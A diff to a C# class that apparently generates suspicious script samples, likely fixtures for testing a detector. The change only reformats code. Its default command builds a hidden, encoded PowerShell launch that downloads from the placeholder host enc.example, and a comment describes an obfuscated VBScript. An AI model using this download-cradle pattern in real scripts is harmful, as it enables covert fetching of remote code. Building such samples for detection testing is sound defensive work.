@@ -7,9 +7,13 @@ namespace Noroshi.Makers.Scripts;
 public static class ScriptMaker
 {
     /// <summary>A batch file that hands an encoded command to PowerShell.</summary>
-    public static byte[] EncodedCommand(string command = "Write-Output 'x'; (New-Object Net.WebClient).DownloadString('http://enc.example/a')") =>
+    public static byte[] EncodedCommand(
+        string command = "Write-Output 'x'; (New-Object Net.WebClient).DownloadString('http://enc.example/a')"
+    ) =>
         Encoding.ASCII.GetBytes(
-            "@echo off\r\nset A=1\r\npowershell -nop -w hidden -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(command)) + "\r\nexit /b 0\r\n"
+            "@echo off\r\nset A=1\r\npowershell -nop -w hidden -enc "
+                + Convert.ToBase64String(Encoding.Unicode.GetBytes(command))
+                + "\r\nexit /b 0\r\n"
         );
 
     /// <summary>A VBScript whose address and object name are built from character codes and pieces.</summary>
